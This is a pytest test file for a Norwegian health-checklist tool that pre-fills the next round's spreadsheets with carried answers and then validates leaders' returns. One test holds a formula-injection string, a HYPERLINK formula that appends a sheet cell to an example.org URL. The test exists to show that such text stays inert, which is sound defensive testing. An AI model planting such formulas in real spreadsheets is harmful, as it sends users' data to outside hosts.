"""The next round (issue #30): pre-filled skjemas from the register and last round, returned.

One round is made from the sample (register + 2026-T1/T2) with a trust catalogue that rewords one
requirement and drops another; three skjemas are then filled as leaders would (one answer
changed, only the Dato set, nothing touched) and read back by ``validate`` and a Markdown build.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import shutil
from pathlib import Path
from typing import Any, NamedTuple

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from statuskart.catalog.load import load_catalogs
from statuskart.catalog.model import Catalogue
from statuskart.cli.commands import main
from statuskart.core.identity import next_period, period_start
from statuskart.pipeline.next_round import (
    RoundResult,
    make_round,
    newest_sources,
    requirement_notes,
)
from statuskart.pipeline.run import check_files
from statuskart.validate.intake import default_cache_dir
from statuskart.validate.model import Answer, FileReport, Submission, UnitMeta
from statuskart.workbook import carry_record, fit
from statuskart.workbook import layout as L
from statuskart.workbook.carry import CARRIED_FILL, CHECK_FILL, NOTE_WIDTH, SUMMARY_NAME

from .conftest import ROOT, TODAY, raw_of, render_markdown
from .test_workbook_formats import SOFFICE, _convert, _same_reading

REWORDED_ID = "TSB-09"
REMOVED_ID = "TSB-10"
TRUST_VERSION = "2026.9"
NEW_TEXT = "Forløpskoordinator har ansvar for forløpstider, koordinering og koding, skriftlig."
DUPLICATED = "helse-bergen-hf__ambulant-rusteam-midt.xlsx"
NOTE_COLUMN = len(L.COLUMNS) + 1


def trust_catalogue(folder: Path) -> Path:
    """The built-in TSB catalogue with TSB-09 reworded and TSB-10 taken out, as a new version."""
    data = yaml.safe_load((ROOT / "statuskart/catalog/data/tsb.yaml").read_text(encoding="utf-8"))
    data["version"] = TRUST_VERSION
    for req in data["requirements"]:
        if req["id"] == REWORDED_ID:
            req["text"] = NEW_TEXT
    data["requirements"] = [r for r in data["requirements"] if r["id"] != REMOVED_ID]
    for req in data["requirements"]:  # nothing may depend on the row taken out
        req["depends_on"] = [d for d in req.get("depends_on", []) if d != REMOVED_ID]
        if not req["depends_on"]:
            req.pop("depends_on")
    path = folder / "tsb-helseforetak.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


class Round(NamedTuple):
    root: Path
    checklists: Path
    catalogue_file: Path
    catalogues: dict[str, Catalogue]
    result: RoundResult
    previous: dict[str, FileReport]
    """2026-T2 reports by file name."""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Round:
    root = tmp_path_factory.mktemp("round")
    checklists = root / "checklists"
    shutil.copytree(ROOT / "checklists", checklists)
    # A unit that sent two files last round is carried from neither.
    shutil.copy(checklists / "2026-T2" / DUPLICATED, checklists / "2026-T2" / f"kopi-{DUPLICATED}")
    catalogue_file = trust_catalogue(root)
    catalogues = load_catalogs([catalogue_file])
    result = make_round(
        [checklists],
        catalogues,
        catalogues["tsb"],
        output=root / "runde",
        cache_dir=default_cache_dir(),
    )
    reports = check_files([checklists / "2026-T2"], catalogues, TODAY)
    previous = {Path(r.path).name: r for r in reports}
    return Round(root, checklists, catalogue_file, catalogues, result, previous)


def planned(made: Round, hf: str, unit: str) -> Any:
    return next(s for s in made.result.plan.skjemas if (s.hf, s.unit) == (hf, unit))


def carried_unit(made: Round) -> Any:
    """A unit carried from 2026-T2 that answered the reworded and the removed requirement and has
    an open action with a frist before 2026-T3 starts."""
    start = period_start("2026-T3")
    assert start is not None
    for skjema in made.result.plan.skjemas:
        if skjema.carry is None:
            continue
        ids = {a.requirement_id for a in skjema.carry.answers}
        passed = [a for a in skjema.carry.answers if a.due_passed]
        if (
            REWORDED_ID in ids
            and passed
            and any(r.requirement_id == REMOVED_ID for r in skjema.carry.removed)
        ):
            return skjema
    raise AssertionError("no unit in the sample answers every case")


def shows(cell: Any, fill: Any) -> bool:
    """The cell has ``fill``'s colour (the alpha byte aside: apps write it differently)."""
    return str(cell.fill.fgColor.rgb)[-6:] == str(fill.fgColor.rgb)[-6:]


def row_of(ws: Any, requirement: str) -> int:
    for row in range(5, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == requirement:
            return row
    raise AssertionError(requirement)


def test_one_skjema_per_registered_unit_in_a_new_folder_with_a_summary(made: Round) -> None:
    plan = made.result.plan
    register = yaml.safe_load((made.checklists / "enheter.yaml").read_text(encoding="utf-8"))
    assert plan.period == "2026-T3"  # the round after the newest one in the folder
    assert len(plan.skjemas) == len(register["enheter"])
    written = sorted(p.relative_to(made.result.folder) for p in made.result.folder.rglob("*.xlsx"))
    assert sorted([Path(SUMMARY_NAME), *(s.path for s in plan.skjemas)]) == written
    for skjema in plan.skjemas:  # grouped by HF, named by unit and round
        assert skjema.path.parent.name and skjema.path.name.endswith("-2026-T3.xlsx")
    summary = openpyxl.load_workbook(made.result.summary).active
    assert summary is not None
    rows = list(summary.iter_rows(values_only=True))
    assert rows[0] == (
        "RHF", "HF", "Enhet", "Enhetstype", "Kontaktrolle", "Fil", "Overførte svar",
        "Krav å se over", "Merknad",
    )  # fmt: skip
    by_unit = {(r[1], r[2]): r for r in rows[1:]}
    assert len(by_unit) == len(plan.skjemas)
    for skjema in plan.skjemas:
        row = by_unit[(skjema.hf, skjema.unit)]
        assert row[1] == skjema.hf and row[4] == skjema.contact == "Enhetsleder"
        assert row[5] == skjema.path.as_posix() and row[6] == skjema.carried
    # It prints: every column on an A4 landscape page width at 7 pt or more, header repeated,
    # and each row as high as its wrapped note (LibreOffice does not grow rows of an .xlsx).
    scale = summary.page_setup.scale
    assert summary.page_setup.orientation == "landscape" and scale is not None
    assert scale * fit.FONT_POINTS / 100 >= 7 and summary.print_title_rows == "$1:$1"
    usable = fit.A4_LANDSCAPE_POINTS - 2 * fit.SIDE_MARGIN_INCHES * 72
    widths = [summary.column_dimensions[c].width for c in "ABCDEFGHI"]
    assert sum(fit.width_points(w) for w in widths) * scale / 100 <= usable
    for number, row in enumerate(rows, start=1):
        height = summary.row_dimensions[number].height
        assert height is not None and height >= fit.row_height(zip(row, widths, strict=True))
    new = [s for s in plan.skjemas if "ikke levert" in s.unit]
    assert new and all(
        by_unit[(s.hf, s.unit)][6] == 0 and "Ingen tidligere" in str(by_unit[(s.hf, s.unit)][8])
        for s in new
    )


def test_several_files_in_the_last_round_carry_nothing_and_say_why(made: Round) -> None:
    meta = made.previous[DUPLICATED].meta
    skjema = planned(made, meta["hf"], meta["unit"])
    assert skjema.carry is None and skjema.carried == 0
    assert DUPLICATED in skjema.note and f"kopi-{DUPLICATED}" in skjema.note
    assert "ingen svar overført" in skjema.note
    workbook = openpyxl.load_workbook(made.result.folder / skjema.path)
    assert carry_record.RECORD_SHEET not in workbook.sheetnames  # a blank skjema
    front = workbook[L.FRONT_SHEET]
    assert front["B7"].value == meta["unit"] and front["B9"].value == "2026-T3"


def test_front_sheet_and_last_answers_are_carried_and_marked(made: Round) -> None:
    skjema = carried_unit(made)
    source = next(
        r for r in made.previous.values()
        if r.submission is not None
        and (r.submission.meta.hf, r.submission.meta.unit) == (skjema.hf, skjema.unit)
    )  # fmt: skip
    old = source.submission
    assert old is not None
    workbook = openpyxl.load_workbook(made.result.folder / skjema.path)
    front = workbook[L.FRONT_SHEET]
    fields: dict[str, Any] = {
        f.key: front.cell(row=5 + i, column=2).value for i, f in enumerate(L.META_FIELDS)
    }
    assert fields["hf"] == skjema.hf and fields["unit"] == skjema.unit
    assert fields["period"] == "2026-T3" and fields["unit_type"] == old.meta.unit_type
    assert fields["date"].date() == old.meta.date  # kept, so a new Dato can confirm
    ws = workbook[L.CHECKLIST_SHEET]
    assert ws.cell(row=4, column=NOTE_COLUMN).value == "Overført fra forrige runde"
    status_col = [c.key for c in L.COLUMNS].index("status") + 1
    tsb = made.catalogues["tsb"]
    kept = {a.requirement_id for a in skjema.carry.answers}
    answered = [a for a in old.answers if a.status and a.requirement_id in kept]
    for answer in old.answers:  # what is not carried is not asked of this unit type, or removed
        if answer.status and answer.requirement_id not in kept:
            req = tsb.by_id.get(answer.requirement_id)
            assert req is None or not req.applies_to(old.meta.unit_type), answer.requirement_id
    assert len(answered) > 30
    for answer in answered:
        row = row_of(ws, answer.requirement_id)
        cell = ws.cell(row=row, column=status_col)
        assert cell.value == answer.status
        assert shows(cell, CARRIED_FILL)
        assert str(ws.cell(row=row, column=NOTE_COLUMN).value).startswith("Overført fra 2026-T2")
    # Read back, the carried answers are the old ones.
    report = check_files([made.result.folder / skjema.path], made.catalogues, TODAY)[0]
    assert report.submission is not None
    new = {a.requirement_id: a for a in report.submission.answers}
    for answer in answered:
        again = new[answer.requirement_id]
        keys = ("status", "comment", "action", "owner", "due", "risk", "share")
        assert [getattr(again, k) for k in keys] == [getattr(answer, k) for k in keys]


def test_a_changed_requirement_is_flagged_and_a_removed_one_listed_with_its_answer(
    made: Round,
) -> None:
    skjema = carried_unit(made)
    workbook = openpyxl.load_workbook(made.result.folder / skjema.path)
    ws = workbook[L.CHECKLIST_SHEET]
    note = str(ws.cell(row=row_of(ws, REWORDED_ID), column=NOTE_COLUMN).value)
    assert "Kravet er endret – se over svaret" in note and "Teksten er endret" in note
    assert shows(ws.cell(row=row_of(ws, REWORDED_ID), column=NOTE_COLUMN), CHECK_FILL)
    unchanged = [a for a in skjema.carry.answers if not a.changed]
    assert unchanged  # only what changed is flagged
    assert "endret" not in str(
        ws.cell(row=row_of(ws, unchanged[0].requirement_id), column=NOTE_COLUMN).value
    )
    ids = [ws.cell(row=r, column=1).value for r in range(5, ws.max_row + 1)]
    assert REMOVED_ID not in ids
    guide = [tuple(r) for r in workbook[L.GUIDE_SHEET].iter_rows(values_only=True)]
    removed = [r for r in guide if r[0] == REMOVED_ID]
    assert len(removed) == 1 and "Forrige svar:" in str(removed[0][1])
    assert any(r[0] == "Bekreft" and "dagens dato" in str(r[1]) for r in guide)


def test_a_passed_frist_is_a_question(made: Round) -> None:
    skjema = carried_unit(made)
    start = period_start("2026-T3")
    workbook = openpyxl.load_workbook(made.result.folder / skjema.path)
    ws = workbook[L.CHECKLIST_SHEET]
    due_col = [c.key for c in L.COLUMNS].index("due") + 1
    for answer in skjema.carry.answers:
        row = row_of(ws, answer.requirement_id)
        note = str(ws.cell(row=row, column=NOTE_COLUMN).value)
        if answer.due_passed:
            assert answer.due is not None and start is not None and answer.due < start
            assert f"Fristen {answer.due:%d.%m.%Y} er passert" in note
            assert shows(ws.cell(row=row, column=due_col), CHECK_FILL)
        else:
            assert "er passert" not in note


def fill(path: Path, target: Path, edit: Any) -> Path:
    """Open the skjema as a leader would, change what ``edit`` changes, save it under ``target``."""
    workbook = openpyxl.load_workbook(path)
    edit(workbook)
    target.parent.mkdir(parents=True, exist_ok=True)
    workbook.save(target)
    return target


@pytest.fixture(scope="module")
def returned(made: Round) -> dict[str, FileReport]:
    """Three returns in checklists/2026-T3: one answer changed, only the Dato, nothing."""
    carried = [s for s in made.result.plan.skjemas if s.carry is not None][:3]
    first = carried[0].carry
    assert first is not None
    folder = made.checklists / "2026-T3"
    comment_col = [c.key for c in L.COLUMNS].index("comment") + 1

    def change_answer(wb: Any) -> None:
        ws = wb[L.CHECKLIST_SHEET]
        ws.cell(
            row=row_of(ws, first.answers[0].requirement_id), column=comment_col
        ).value = "Ny rutine fra oktober."

    def change_date(wb: Any) -> None:
        wb[L.FRONT_SHEET]["B10"].value = dt.date(2026, 11, 2)

    names = {}
    for skjema, edit, name in zip(
        carried,
        (change_answer, change_date, lambda wb: None),
        ("changed", "dated", "untouched"),
        strict=True,
    ):
        out = fill(made.result.folder / skjema.path, folder / skjema.path.name, edit)
        names[name] = out.name
    reports = check_files([made.checklists], made.catalogues, TODAY)
    by_name = {Path(r.path).name: r for r in reports if Path(r.path).parent == folder}
    return {kind: by_name[name] for kind, name in names.items()}


def test_validate_tells_confirmed_from_untouched(
    made: Round, returned: dict[str, FileReport]
) -> None:
    changed, dated, untouched = returned["changed"], returned["dated"], returned["untouched"]
    for report in returned.values():
        assert report.carried is not None and report.carried.from_period == "2026-T2"
        assert report.submission is not None  # a warning, never a rejection
    assert changed.carried and changed.carried.changed == 1
    assert changed.carried.confirmed == changed.carried.carried
    assert dated.carried and dated.carried.changed == 0 and dated.carried.date_changed
    assert dated.carried.untouched == 0
    assert untouched.carried and untouched.carried.untouched == untouched.carried.carried > 0
    codes = {kind: [f.code for f in r.findings] for kind, r in returned.items()}
    assert "carried-untouched" not in codes["changed"] + codes["dated"]
    (warning,) = [f for f in untouched.findings if f.code == "carried-untouched"]
    assert warning.severity == "warning" and warning.location == "Forside!B10"
    assert str(untouched.carried.carried) in warning.message
    result = CliRunner().invoke(
        main, ["validate", str(made.checklists / "2026-T3"), "--catalog", str(made.catalogue_file)]
    )
    assert "svarene er kanskje ikke gått gjennom" in result.output
    assert Path(untouched.path).name in result.output


def test_datakvalitet_and_innlevering_show_confirmed_and_untouched(
    made: Round, returned: dict[str, FileReport], tmp_path: Path
) -> None:
    docs = tmp_path / "docs"
    render_markdown(made.checklists, docs, catalog_files=[made.catalogue_file])
    for page in ("datakvalitet.md", "innlevering.md"):
        text = (docs / page).read_text(encoding="utf-8")
        # A heading the reader can navigate to, not «##» escaped into text.
        assert "\n## Svar overført fra forrige runde, runde 2026-T3\n" in text, page
        assert "1 enhet sendte skjemaet tilbake urørt" in text, page
        for kind, report in returned.items():
            check = report.carried
            assert check is not None and report.submission is not None
            unit = report.submission.meta.unit
            row = next(
                line
                for line in text.splitlines()
                if f">{unit}<" in line and "<td>2026-T2</td>" in line
            )
            # Each carried answer counted once: changed, kept and confirmed, or untouched.
            assert check.changed + check.kept + check.untouched == (check.carried)
            flag = f"⚠ {check.untouched}" if check.untouched else "<td>0</td></tr>"
            assert (
                f"<td>{check.carried}</td><td>{check.changed}</td><td>{check.kept}</td>" in row
            ), kind
            assert flag in row, kind


def test_a_lost_or_edited_record_is_a_finding_not_a_guess(made: Round, tmp_path: Path) -> None:
    skjema = carried_unit(made)
    source = made.result.folder / skjema.path

    def drop(wb: Any) -> None:
        wb.remove(wb[carry_record.RECORD_SHEET])

    def edit(wb: Any) -> None:
        wb[carry_record.RECORD_SHEET]["C3"].value = "0" * 16

    for edit_record, reason in ((drop, "mangler"), (edit, "er endret")):
        out = fill(source, tmp_path / f"{reason}.xlsx", edit_record)
        (report,) = check_files([out], made.catalogues, TODAY)
        assert report.carried is None and report.submission is not None
        (found,) = [f for f in report.findings if f.code == "carry-record-invalid"]
        assert reason in found.message and found.severity == "warning"


def test_the_record_reads_back_as_written() -> None:
    record = carry_record.CarryRecord(
        from_period="2026-T2", from_date=dt.date(2026, 8, 30), rows={"TSB-01": "ab" * 8}
    )
    lines = carry_record.record_lines(record)
    seal = carry_record.record_digest(lines)
    assert carry_record.parse_record(lines, seal) == record
    assert carry_record.parse_record((), None) is None
    assert carry_record.parse_record((), seal) == "mangler"
    assert carry_record.parse_record(lines, None) == "mangler forseglingen i stempelet"
    assert carry_record.parse_record([*lines, ("row", "TSB-02", "x")], seal) == "er endret"
    bad_date = [("from_period", "2026-T2", ""), ("from_date", "30.08", "")]
    assert carry_record.parse_record(bad_date, carry_record.record_digest(bad_date)) == (
        "har en ugyldig dato"
    )
    same = {
        "status": "Påbegynt",
        "share": 80,
        "comment": "Rutine  finnes",
        "due": dt.date(2026, 1, 2),
    }
    spelled = {
        **same,
        "share": 80.00000001,
        "comment": "Rutine finnes",
        "due": dt.datetime(2026, 1, 2, tzinfo=dt.UTC),
    }
    assert carry_record.answer_digest(same) == carry_record.answer_digest(spelled)
    assert carry_record.answer_digest(same) != carry_record.answer_digest({**same, "risk": "høy"})


def _report(path: str, hf: str, unit: str, period: str, pathway: str | None = "tsb") -> FileReport:
    meta = UnitMeta(rhf="R", hf=hf, unit=unit, unit_type=None, period=period)
    submission = None
    if pathway is not None:
        submission = Submission(
            path=path,
            sha256="",
            catalogue_id=pathway,
            catalogue_version="2026.1",
            meta=meta,
            answers=(),
        )
    status = "ok" if submission else "rejected"
    raw_meta = {"hf": hf, "unit": unit, "period": period}
    return FileReport(
        path=path, sha256="", status=status, submission=submission, findings=(), meta=raw_meta
    )


def test_which_file_to_carry_from() -> None:
    reports = [
        _report("a1", "Helse A HF", "Poliklinikk", "2026-T1"),
        _report("a2", "HELSE A HF", "poliklinikk ", "2026_t2"),  # the same unit, spelt otherwise
        _report("b1", "Helse A HF", "Døgn", "2026-T1"),
        _report("b2", "Helse A HF", "Døgn", "2026-T2"),
        _report("b3", "Helse A HF", "døgn", "2026-T2", pathway=None),  # rejected, still a file
        _report("c1", "Helse A HF", "Ambulant", "2026-T3"),  # the new round itself: not a source
        _report("d1", "Helse A HF", "Annet forløp", "2026-T2", pathway="bup"),
    ]
    sources = newest_sources(reports, "tsb", "2026-T3")
    assert sources[("helse a hf", "poliklinikk")].period == "2026-T2"
    assert [r.path for r in sources[("helse a hf", "poliklinikk")].reports] == ["a2"]
    assert [r.path for r in sources[("helse a hf", "døgn")].reports] == ["b2", "b3"]
    assert ("helse a hf", "ambulant") not in sources
    assert ("helse a hf", "annet forløp") not in sources


def test_what_changed_since_the_answer(made: Round) -> None:
    tsb = made.catalogues["tsb"]
    # The version the sample's last round was answered on, as the skjemas are stamped.
    (stamped,) = {r.submission.catalogue_version for r in made.previous.values() if r.submission}
    old = tsb.version_of(stamped)
    assert old is not None and tsb.version == TRUST_VERSION
    notes = requirement_notes(old, tsb, stamped)
    assert list(notes) == [REWORDED_ID] and "Teksten er endret" in notes[REWORDED_ID]
    assert requirement_notes(tsb, tsb, TRUST_VERSION) == {}
    unknown = requirement_notes(None, tsb, "1999.1")
    assert set(unknown) == set(tsb.by_id) and "1999.1" in unknown[REWORDED_ID]
    longer = dataclasses.replace(  # an older version whose TSB-11 said far more
        tsb,
        version="2026.8",
        requirements=tuple(
            dataclasses.replace(r, text=r.text + " " + "x" * 400) if r.id == "TSB-11" else r
            for r in tsb.requirements
        ),
        by_id={},
    )
    quoted = requirement_notes(longer, tsb, "2026.8")["TSB-11"]
    assert "Teksten er endret" in quoted and "…" in quoted and len(quoted) < 400


def test_which_frister_passed_is_judged_by_the_new_round() -> None:
    from statuskart.pipeline.next_round import due_passed

    def answer(due: dt.date, status: str, points: float) -> Answer:
        return Answer(
            requirement_id="X", status=status, points=points, not_applicable=False, comment=None,
            action="Tiltak", owner="Leder", due=due, risk=None, cell=None,
        )  # fmt: skip

    start = period_start("2026-T3")
    assert start == dt.date(2026, 9, 1)
    assert due_passed(answer(dt.date(2026, 8, 31), "Påbegynt", 0.5), start)
    assert not due_passed(answer(dt.date(2026, 9, 1), "Påbegynt", 0.5), start)
    assert not due_passed(answer(dt.date(2026, 3, 1), "Implementert", 1.0), start)  # done
    assert next_period("2026-T3") == "2027-T1" and next_period("2026-H1") == "2026-H2"


def test_cli_writes_a_round_and_never_over_an_existing_folder_or_file(
    made: Round, tmp_path: Path
) -> None:
    runner = CliRunner()
    out = tmp_path / "ny-runde"
    args = ["runde", str(ROOT / "checklists"), "--period", "2027-T1", "-o", str(out)]
    done = runner.invoke(main, args)
    assert done.exit_code == 0, done.output
    assert "skjema for 2027-T1" in done.output and SUMMARY_NAME in done.output
    summary = openpyxl.load_workbook(out / SUMMARY_NAME).active
    assert summary is not None
    rows = list(summary.iter_rows(min_row=2, values_only=True))
    assert rows and all((out / str(r[5])).is_file() for r in rows)
    assert sum(1 for r in rows if r[6]) == 35 and all(r[7] is not None for r in rows)
    before = sorted(p.read_bytes() for p in out.rglob("*.xlsx"))
    for existing in (out, out / SUMMARY_NAME):
        again = runner.invoke(main, [*args[:4], "-o", str(existing)])
        assert again.exit_code == 2
        lines = again.output.strip().splitlines()
        assert len(lines) == 1 and "finnes fra før" in lines[0] and "skriver aldri over" in lines[0]
    assert sorted(p.read_bytes() for p in out.rglob("*.xlsx")) == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no half round left


def carried_skjema(folder: Path, catalogues: dict[str, Catalogue]) -> Path:
    """One unit's pre-filled 2027-T2 skjema, from its 2026-T2 file (frister passed by then)."""
    from statuskart.pipeline.next_round import carry_from
    from statuskart.workbook.carry import write_carried

    (report,) = check_files([ROOT / "checklists" / "2026-T2" / DUPLICATED], catalogues, TODAY)
    old = report.submission
    assert old is not None
    tsb = catalogues["tsb"]
    start = period_start("2027-T2")
    assert start is not None
    carry = carry_from(old, tsb, start, old.meta.unit_type)
    assert carry.answers and any(a.due_passed for a in carry.answers)
    meta = {"rhf": old.meta.rhf, "hf": old.meta.hf, "unit": old.meta.unit, "period": "2027-T2"}
    path = folder / "carried.xlsx"
    return write_carried(
        tsb, path, {**meta, "unit_type": old.meta.unit_type}, carry, unit_type=old.meta.unit_type
    )


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_a_carried_skjema_reads_the_same_after_libreoffice(
    tmp_path: Path, catalogues: dict[str, Catalogue], fmt: str
) -> None:
    source = carried_skjema(tmp_path, catalogues)
    converted = _convert(source, fmt, tmp_path)
    submission = _same_reading(source, converted, catalogues)
    assert submission is not None
    a, b = raw_of(source), raw_of(converted)
    assert carry_record.parse_record(b.carry, b.stamp.get(carry_record.STAMP_KEY)) == (
        carry_record.parse_record(a.carry, a.stamp.get(carry_record.STAMP_KEY))
    )
    (report_a,) = check_files([source], catalogues, TODAY)
    (report_b,) = check_files([converted], catalogues, TODAY)
    assert report_a.carried is not None and report_a.carried.untouched > 30
    assert report_b.carried == report_a.carried
    if fmt == "xlsx":  # the marks a leader sees are still there after LibreOffice saved the file
        ws = openpyxl.load_workbook(converted)[L.CHECKLIST_SHEET]
        status_col = [c.key for c in L.COLUMNS].index("status") + 1
        row = next(
            r for r in range(5, ws.max_row + 1)
            if str(ws.cell(row=r, column=NOTE_COLUMN).value or "").startswith("Overført fra")
        )  # fmt: skip
        assert shows(ws.cell(row=row, column=status_col), CARRIED_FILL)


def test_a_carried_text_that_looks_like_a_formula_stays_text(
    tmp_path: Path, catalogues: dict[str, Catalogue]
) -> None:
    from statuskart.workbook.carry import CarriedAnswer, Carry, write_carried

    typed = '=HYPERLINK("https://example.org/?u="&Forside!B7)'
    answer = CarriedAnswer(requirement_id="TSB-06", status="Påbegynt", comment=typed)
    carry = Carry(from_period="2026-T2", from_date=None, answers=(answer,))
    meta = {"hf": "Eksempel HF", "unit": "Eksempelenheten", "period": "2026-T3"}
    path = write_carried(catalogues["tsb"], tmp_path / "s.xlsx", meta, carry)
    ws = openpyxl.load_workbook(path)[L.CHECKLIST_SHEET]
    comment = ws.cell(
        row=row_of(ws, "TSB-06"), column=[c.key for c in L.COLUMNS].index("comment") + 1
    )
    assert comment.data_type == "s" and comment.value == typed
    # The «Overført» note prints beside the answers, on their page width, at 7 pt or more.
    scale = ws.page_setup.scale
    assert scale is not None and scale * fit.FONT_POINTS / 100 >= 7
    assert str(ws.print_area).split(":")[-1].startswith("$O$")
    split = [c.key for c in L.COLUMNS].index("source") + 1
    answers = [L.COLUMNS[0].width, *(c.width for c in L.COLUMNS[split:]), NOTE_WIDTH]
    usable = fit.A4_LANDSCAPE_POINTS - 2 * fit.SIDE_MARGIN_INCHES * 72
    assert sum(fit.width_points(w) for w in answers) * scale / 100 <= usable
    (report,) = check_files([path], catalogues, TODAY)
    assert report.carried is not None and report.carried.carried == 1
    assert report.carried.changed == 0 and not report.carried.date_changed
    assert [f.code for f in report.findings].count("carried-untouched") == 1


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_last_rounds_skjema_saved_by_libreoffice_is_carried_the_same(
    tmp_path: Path, catalogues: dict[str, Catalogue]
) -> None:
    source = ROOT / "checklists" / "2026-T2" / DUPLICATED
    rounds = {}
    for kind in ("xlsx", "ods"):
        folder = tmp_path / kind / "2026-T2"
        folder.mkdir(parents=True)
        if kind == "ods":
            shutil.copy(_convert(source, "ods", tmp_path / "lo"), folder)
        else:
            shutil.copy(source, folder)
        result = make_round(
            [folder.parent], catalogues, catalogues["tsb"], output=tmp_path / f"runde-{kind}"
        )
        (skjema,) = result.plan.skjemas  # no register: the unit that answered last round
        assert skjema.carry is not None and skjema.carried > 30
        rounds[kind] = skjema.carry
    assert rounds["ods"].answers == rounds["xlsx"].answers
